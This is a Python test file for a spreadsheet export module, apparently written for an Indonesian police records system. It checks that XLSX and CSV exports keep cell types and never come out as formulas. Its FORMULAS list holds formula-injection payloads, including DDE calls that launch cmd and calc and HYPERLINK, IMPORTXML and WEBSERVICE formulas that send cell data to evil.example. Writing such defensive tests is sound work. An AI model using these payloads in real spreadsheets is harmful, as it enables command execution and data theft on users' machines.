"""What is exported opens with types and without a single formula."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from foundation.spreadsheets import Percent, csv_lines, csv_response, read_rows, write_xlsx, xlsx_response

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "   @SUM(A1)",
    " +62812;=1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "-2+3+cmd|' /C calc'!D2",
    "=1+1\nbaris dua",
    '"=1+1"',
    "';=1+1",
    "+628123456789",
    "-",
    "=",
    "@budi",
    "==",
    "=A1&B1",
]
HEADER = ["NRP", "Nama", "Nilai", "Selesai", "Dicatat", "Capaian", "Lulus"]
WIT = ZoneInfo("Asia/Jayapura")
ROW = [
    "01012345",
    "Briptu Ani",
    Decimal("87.50"),
    date(2026, 11, 21),
    datetime(2026, 11, 20, 23, 0, tzinfo=UTC).astimezone(WIT),
    Percent(Decimal("62.5")),
    True,
]


def sheet(response) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]


def lines(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_cells_of_a_workbook_keep_their_types():
    response = xlsx_response("capaian.xlsx", HEADER, [ROW, [None] * 7])

    cells = sheet(response)[2]

    assert [cell.value for cell in cells] == [
        "01012345",
        "Briptu Ani",
        87.5,
        datetime(2026, 11, 21),
        datetime(2026, 11, 21, 8, 0),
        0.625,
        "Ya",
    ]
    assert [cell.data_type for cell in cells] == ["s", "s", "n", "d", "d", "n", "s"]
    assert cells[5].number_format == "0.0%"
    assert cells[3].number_format == "dd/mm/yyyy"
    assert 'filename="capaian.xlsx"' in response.headers["Content-Disposition"]


def test_a_workbook_has_a_frozen_header_and_columns_as_wide_as_their_text():
    exported = sheet(xlsx_response("x.xlsx", ["No", "Nama"], [[1, "A" * 30], [2, "B" * 200]]))

    assert exported.freeze_panes == "A2"
    assert exported.auto_filter.ref == "A1:B3"
    assert exported["A1"].font.bold
    assert exported.column_dimensions["A"].width < 10 < 50 < exported.column_dimensions["B"].width < 70


def test_a_workbook_can_say_what_it_shows():
    response = xlsx_response("x.xlsx", ["No"], [[1]], about={"Satuan": "Polres Contoh", "Data per": "21 November 2026"})

    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    assert [[cell.value for cell in row] for row in book["Keterangan"]][1:] == [
        ["Satuan", "Polres Contoh"],
        ["Data per", "21 November 2026"],
    ]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(payload):
    exported = sheet(xlsx_response("x.xlsx", [payload], [[payload]]))

    assert [cell.data_type for cell in (exported["A1"], exported["A2"])] == ["s", "s"]
    assert exported["A2"].hyperlink is None
    assert exported["A2"].value.replace("_x000D_", "\r") == payload


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_csv_begins_like_a_formula(payload):
    [header, row] = lines("".join(csv_lines([payload], [[payload]])))

    for text in (*header, *row):
        assert text.lstrip("\t\r\n \xa0\u200b\ufeff")[:1] not in tuple("=+-@|%＝＋－＠") or text == "-"


def test_a_csv_is_what_indonesian_excel_opens_with_a_double_click():
    response = csv_response("capaian.csv", HEADER, [ROW, ["x", None, -1.5, None, None, None, False]])

    text = b"".join(response.streaming_content).decode()

    assert text.startswith("\ufeffNRP;Nama;")
    assert lines(text)[1:] == [
        ["01012345", "Briptu Ani", "87,50", "2026-11-21", "2026-11-21 08:00", "62,5%", "Ya"],
        ["x", "", "-1,5", "", "", "", "Tidak"],
    ]
    assert 'filename="capaian.csv"' in response.headers["Content-Disposition"]


def test_a_csv_is_made_while_it_is_sent():
    asked = []

    def rows():
        for number in range(2000):
            asked.append(number)
            yield [number]

    pieces = csv_lines(["No"], rows())
    assert next(pieces) == "\ufeffNo\r\n"
    assert not asked
    next(pieces)

    assert len(asked) == 500
    assert len(lines("".join(pieces))) == 1500


def test_text_beyond_what_a_cell_holds_is_cut_visibly_and_control_characters_do_not_break_the_file():
    exported = sheet(xlsx_response("x.xlsx", ["a"], [["x" * 40_000], ["a\x00b\x0bc"]]))

    assert len(exported["A2"].value) == 32_767
    assert exported["A2"].value.endswith("…")
    assert exported["A3"].value


def test_what_is_exported_can_be_imported_again():
    file = io.BytesIO()
    write_xlsx(file, ["NRP", "Nama"], [["01012345", "Ani"]])
    file.seek(0)

    assert read_rows(file, name="x.xlsx") == [["NRP", "Nama"], ["01012345", "Ani"]]
    text = "".join(csv_lines(["NRP", "Nama"], [["01012345", "Ani"]]))
    assert read_rows(io.BytesIO(text.encode()), name="x.csv") == [["NRP", "Nama"], ["01012345", "Ani"]]
